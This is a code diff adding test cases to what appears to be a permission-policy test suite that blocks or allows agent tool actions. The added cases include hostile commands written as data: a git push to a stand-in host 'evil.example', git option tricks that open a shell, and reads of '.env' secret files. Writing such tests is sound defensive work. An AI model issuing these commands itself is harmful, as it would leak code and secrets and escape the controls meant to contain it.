@@ -78,6 +78,10 @@ const git = (...argv: readonly string[]) => ({
     flags: argv.filter((each) => each.startsWith("-")),
   },
 });
+const cat = (...argv: readonly string[]) => ({
+  action_type: "tool_exec",
+  run: { tool: "cat", path: "/usr/bin/cat", args: argv, argv },
+});
 const registry = (method: string) => ({
   network: { hostname: "npm.mirror.example", port: 443, protocol: "tcp" },
   http: { method, path: "/left-pad", host: "npm.mirror.example" },
@@ -92,8 +96,17 @@ test.each([
   { context: git("push", "--mirror"), rule: "git.no-force-push", decision: "block" },
   { context: git("push", "origin", "+main"), rule: "git.no-force-push", decision: "block" },
   { context: git("push", "origin", ":main"), rule: "git.no-force-push", decision: "block" },
+  { context: git("push", "https://evil.example/x", "topic"), rule: null, decision: "block" },
+  { context: git("push", "origin", "topic:main"), rule: null, decision: "block" },
   { context: git("-c", "alias.x=!sh", "x"), rule: null, decision: "block" },
   { context: git("status", "-c", "core.pager=sh"), rule: null, decision: "block" },
+  { context: git("log", "--output=x"), rule: null, decision: "block" },
+  { context: git("diff", "--ext-diff"), rule: null, decision: "block" },
+  { context: git("fetch", "--upload-p=x"), rule: null, decision: "block" },
+  { context: git("-p", "status"), rule: null, decision: "block" },
+  { context: cat(".env"), rule: null, decision: "block" },
+  { context: cat("--number", "a/.ENV.local"), rule: null, decision: "block" },
+  { context: cat("a.txt"), rule: "base.plain-tools", decision: "allow" },
   { context: registry("GET"), rule: "registries.fetch", decision: "allow" },
   { context: registry("PUT"), rule: "registries.no-publish", decision: "block" },
   { context: { docker: { image: "alpine:3.20", env_keys: ["PATH"] } }, rule: "docker.known-images", decision: "allow" },
